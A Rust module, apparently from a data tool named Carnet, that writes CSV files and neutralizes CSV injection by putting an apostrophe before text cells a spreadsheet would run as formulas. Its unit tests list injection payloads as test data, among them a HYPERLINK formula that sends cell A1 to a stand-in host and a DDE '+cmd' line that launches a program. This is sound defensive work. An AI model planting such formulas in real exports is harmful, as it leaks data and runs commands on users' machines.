//! Every CSV Carnet writes — the clean CSV, the rows set aside, the tidy table, a chart's data —
//! goes through [`CsvOut`]: UTF-8, comma, LF, RFC 4180 quoting, and **no cell a spreadsheet
//! would run as a formula**.
//!
//! A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is written with
//! a leading apostrophe (OWASP's advice on CSV injection): Excel and LibreOffice then show it as
//! text instead of running it. Values (numbers, dates, missing markers) are written as they
//! are, so `-3.5` stays a number. [`needs_apostrophe`] tells which text gets one, for the page
//! and the README to say so.
//!
//! ```
//! use carnet::engine::csv_out::{CsvOut, Field};
//! let mut csv = CsvOut::new();
//! csv.row([Field::Text("libelle"), Field::Text("valeur")]);
//! csv.row([Field::Text("=HYPERLINK(\"http://x.invalid\")"), Field::Value("-3.5")]);
//! assert_eq!(csv.finish(), "libelle,valeur\n\"'=HYPERLINK(\"\"http://x.invalid\"\")\",-3.5\n");
//! ```

use std::borrow::Cow;

/// One field of a row: text, neutralized when a spreadsheet could run it, or a value written
/// as it is (a number, a date, a missing marker).
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Field<'a> {
    /// Text from a file or a user: names, labels, codes, reasons.
    Text(&'a str),
    /// A value Carnet wrote itself: `29440`, `-3.5`, `2021-12-31`, `s`.
    Value(&'a str),
}

/// A CSV being written.
#[derive(Debug)]
pub struct CsvOut {
    out: csv::Writer<Vec<u8>>,
}

impl Default for CsvOut {
    fn default() -> Self {
        Self::new()
    }
}

impl CsvOut {
    /// An empty CSV.
    pub fn new() -> Self {
        let out = csv::WriterBuilder::new().terminator(csv::Terminator::Any(b'\n')).from_writer(Vec::new());
        Self { out }
    }

    /// Writes one row.
    pub fn row<'a>(&mut self, fields: impl IntoIterator<Item = Field<'a>>) {
        let record: Vec<Cow<'a, str>> = fields
            .into_iter()
            .map(|field| match field {
                Field::Value(v) => Cow::Borrowed(v),
                Field::Text(t) => safe(t),
            })
            .collect();
        // Writing to a Vec cannot fail.
        let _ = self.out.write_record(record.iter().map(|c| c.as_bytes()));
    }

    /// Writes a row of text fields (a header, say).
    pub fn text_row<'a>(&mut self, fields: impl IntoIterator<Item = &'a str>) {
        self.row(fields.into_iter().map(Field::Text));
    }

    /// The CSV's bytes.
    pub fn into_bytes(self) -> Vec<u8> {
        self.out.into_inner().unwrap_or_default()
    }

    /// The CSV's text.
    pub fn finish(self) -> String {
        String::from_utf8(self.into_bytes()).unwrap_or_default()
    }
}

/// Whether a spreadsheet could run `text` as a formula: it begins with `=`, `+`, `-`, `@`, a
/// tab or a carriage return.
pub fn needs_apostrophe(text: &str) -> bool {
    matches!(text.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
}

/// `text` as a spreadsheet cannot run it: with a leading apostrophe when it
/// [needs one](needs_apostrophe).
pub fn safe(text: &str) -> Cow<'_, str> {
    if needs_apostrophe(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_a_spreadsheet_would_run_is_neutralized() {
        for (cell, written) in [
            ("=HYPERLINK(\"http://exemple.invalid/?\"&A1;\"Voir\")", "'=HYPERLINK"),
            ("+cmd|' /C calc'!A0", "'+cmd"),
            ("@SUM(1+1)", "'@SUM"),
            ("-2+3", "'-2+3"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
        ] {
            assert!(safe(cell).starts_with(written), "{cell:?}");
        }
        for plain in ["Sailly-lez-Lannoy", "59522", "", "a=b", "1+1"] {
            assert_eq!(safe(plain), plain);
        }
    }

    #[test]
    fn values_are_written_as_they_are() {
        let mut csv = CsvOut::new();
        csv.row([Field::Value("-3.5"), Field::Value("-"), Field::Text("-3.5")]);
        assert!(needs_apostrophe("-3.5") && !needs_apostrophe("3.5"), "only the text field gets one");
        assert_eq!(csv.finish(), "-3.5,-,'-3.5\n");
    }
}
